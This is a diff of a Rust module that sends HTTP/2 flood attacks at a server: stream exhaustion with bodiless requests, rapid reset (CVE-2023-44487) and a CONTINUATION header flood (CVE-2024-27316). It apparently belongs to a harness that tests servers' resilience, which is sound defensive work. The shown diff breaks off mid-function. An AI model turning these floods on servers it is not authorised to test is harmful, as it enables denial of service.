@@ -1,4 +1,4 @@
-//! Floods of HTTP/2 frames, made by hand: a client library would not send them.
+//! Floods of HTTP/2 frames.
 
 use anyhow::{Context, ensure};
 use tokio::{
@@ -8,6 +8,10 @@ use tokio::{
 
 use crate::{
     arena::{Arena, Outcome, a_second},
+    http2_frames::{
+        CONTINUATION, END_HEADERS, END_STREAM, GOAWAY, HEADERS, Method, PING, PREFACE, RST_STREAM, SETTINGS, STREAMS,
+        WITHOUT_BODY, cancelled, frame, head,
+    },
     socket::connect_from,
 };
 
@@ -19,48 +23,11 @@ const RATE: u32 = 200;
 /// The same for large ones: few are under way when the server has enough.
 const LARGE_RATE: u32 = 20;
 
-/// The server's limit of streams of a connection.
-const STREAMS: usize = 100;
-
 /// As a head may have 32 KiB, and what is under way.
 const MOST_HEAD: usize = 256 << 10;
 
-const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
-
-const HEADERS: u8 = 1;
-const RST_STREAM: u8 = 3;
-const SETTINGS: u8 = 4;
-const PING: u8 = 6;
-const GOAWAY: u8 = 7;
-const CONTINUATION: u8 = 9;
-
-const END_STREAM: u8 = 1;
-const END_HEADERS: u8 = 4;
-
-const CANCEL: u32 = 8;
-
 /// How servers say that something is a flood.
 const ENHANCE_YOUR_CALM: u32 = 11;
-
-fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
-    bytes.extend([kind, flags]);
-    bytes.extend(stream.to_be_bytes());
-    bytes.extend(payload);
-    bytes
-}
-
-/// A header block (RFC 7541) whose method is the static table's entry: 2 is GET, 3 is POST.
-fn head(arena: &Arena, method: u8, path: &str, others: &[(&str, &str)]) -> Vec<u8> {
-    let text = |text: &str| [&[text.len() as u8], text.as_bytes()].concat();
-    // The scheme http; :path and :authority by their names in the table, never indexed.
-    let mut block = vec![0x80 | method, 0x86];
-    block.extend([&[0x04][..], &text(path), &[0x01], &text(&arena.address.to_string())].concat());
-    for (name, value) in others {
-        block.extend([&[0x00][..], &text(name), &text(value)].concat());
-    }
-    block
-}
 
 /// What happened on a connection.
 #[derive(Default)]
@@ -156,8 +123,7 @@ fn farewells(seen: &[Seen]) -> String {
 
 /// Requests whose bodies do not come.
 pub async fn streams(arena: &Arena) -> anyhow::Result<Outcome> {
-    let body = [("stripe-signature", "t=1"), ("content-type", "application/json"), ("content-length", "1000")];
-    let block = head(arena, 3, "/api/backend/stripe/webhook", &body);
+    let block = head(arena.address, Method::Post, "/api/backend/stripe/webhook", &WITHOUT_BODY);
     let seen = floods(arena, RATE, |sent| frame(HEADERS, END_HEADERS, 2 * sent as u32 + 1, &block)).await?;
     let open = seen.iter().map(|each| each.sent.saturating_sub(each.reset + each.answered)).max().context("none")?;
     let refused: usize = seen.iter().map(|each| each.reset).sum();
@@ -175,11 +141,11 @@ const CANCELLED: usize = 100;
 
 /// Requests that are cancelled at once (CVE-2023-44487).
 pub async fn resets(arena: &Arena) -> anyhow::Result<Outcome> {
-    let block = head(arena, 2, "/api/auth/check-login", &[]);
+    let block = head(arena.address, Method::Get, "/api/auth/check-login", &[]);
     let seen = floods(arena, RATE, |sent| {
         let stream = 2 * sent as u32 + 1;
         let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
-        [request, frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
+        [request, cancelled(stream)].concat()
     })
     .await?;
     let most = seen.iter().map(|each| each.sent).max().context("none")?;
@@ -195,7 +161,7 @@ pub async fn resets(arena: &Arena) -> anyhow::Result<Outcome> {
 
 /// Heads that go on in frame after frame (CVE-2024-27316).
 pub async fn continuations(arena: &Arena) -> anyhow::Result<Outcome> {
-    let mut block = head(arena, 2, "/", &[]);
+    let mut block = head(arena.address, Method::Get, "/", &[]);
     // A header, not indexed, of 16,000 bytes.
     let mut more = vec![0x00, 1, b'x', 0x7f];
     more.extend([0x81, 0x7c]);
